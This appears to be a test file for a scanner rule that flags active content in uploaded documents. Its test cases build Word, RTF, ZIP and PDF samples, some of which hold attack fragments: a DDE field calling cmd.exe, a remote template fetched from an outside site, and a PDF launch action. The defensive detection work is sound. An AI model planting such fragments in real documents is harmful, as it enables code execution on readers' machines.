import { buildCompound, type CompoundStream } from '../../testing/build-compound.ts';
import { buildWordFile, buildZip } from '../../testing/build-zip.ts';
import { describeRule } from '../../testing/scan-for-test.ts';
import { activeDocument } from './active-document.ts';

/** A document with one object in it. */
function carrying(stream: CompoundStream): {
  readonly name: string;
  readonly type: string;
  readonly content: Uint8Array;
} {
  const object = buildCompound([stream]);
  const content = buildWordFile([{ name: 'word/embeddings/oleObject1.bin', content: object }]);
  return { name: 'a.docx', type: 'application/octet-stream', content };
}

describeRule(
  activeDocument,
  [
    {
      title: 'a remote template',
      files: [
        {
          name: 'a.docx',
          type: 'application/octet-stream',
          content: buildWordFile([
            {
              name: 'word/_rels/settings.xml.rels',
              content:
                '<Relationship Type="http://x/attachedTemplate" Target="https://elsewhere-site.net/t.dotm" TargetMode="External"/>',
            },
          ]),
        },
      ],
    },
    {
      title: 'a command field',
      files: [
        {
          name: 'a.docx',
          type: 'application/octet-stream',
          content: buildWordFile([
            {
              name: 'word/header1.xml',
              content: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\windows\\cmd.exe</w:instrText>',
            },
          ]),
        },
      ],
    },
    {
      title: 'an object in RTF',
      files: [{ name: 'a.rtf', type: 'application/octet-stream', content: '{\\rtf1{\\object\\objdata 01}}' }],
    },
    {
      title: 'H-94 a PDF inside a workbook',
      files: [carrying({ path: 'CONTENTS', content: '%PDF-1.4 <<>>' })],
    },
    {
      title: 'H-94 a page inside a workbook inside an archive',
      files: [
        {
          name: 'a.zip',
          type: 'application/zip',
          content: buildZip([
            { name: 'a.txt', content: 'figures' },
            { name: 'a.xlsx', content: carrying({ path: 'CONTENTS', content: '<html><body>hi' }).content },
          ]),
        },
      ],
    },
    {
      title: 'a PDF that starts a program',
      files: [
        {
          name: 'a.pdf',
          type: 'application/octet-stream',
          content: '%PDF-1.4 << /OpenAction << /S /Launch >> >>',
        },
      ],
    },
  ],
  [
    {
      title: "a template on the writer's own disk",
      files: [
        {
          name: 'a.docx',
          type: 'application/octet-stream',
          content: buildWordFile([
            {
              name: 'word/_rels/settings.xml.rels',
              content:
                '<Relationship Type="http://x/attachedTemplate" Target="file:///C:/templates/t.dotm" TargetMode="External"/>',
            },
          ]),
        },
      ],
    },
    {
      title: 'a document with a web link',
      files: [
        {
          name: 'a.docx',
          type: 'application/octet-stream',
          content: buildWordFile([
            {
              name: 'word/_rels/settings.xml.rels',
              content:
                '<Relationship Type="http://x/hyperlink" Target="https://berg.example/" TargetMode="External"/>',
            },
          ]),
        },
      ],
    },
    {
      title: 'a sheet inside a document, and a PDF beside it',
      files: [
        carrying({ path: 'Workbook', content: 'figures' }),
        {
          name: 'a.zip',
          type: 'application/zip',
          content: buildZip([
            { name: 'a.xlsx', content: carrying({ path: 'Workbook', content: 'figures' }).content },
            { name: 'a.pdf', content: '%PDF-1.4 << /Type /Catalog >>' },
          ]),
        },
      ],
    },
    {
      title: "a program's own notes on an object inside a document",
      files: [carrying({ path: 'CONTENTS', content: Buffer.alloc(64, 7) })],
    },
    {
      title: 'a plain PDF',
      files: [{ name: 'a.pdf', type: 'application/octet-stream', content: '%PDF-1.4 << /Type /Catalog >>' }],
    },
  ],
);
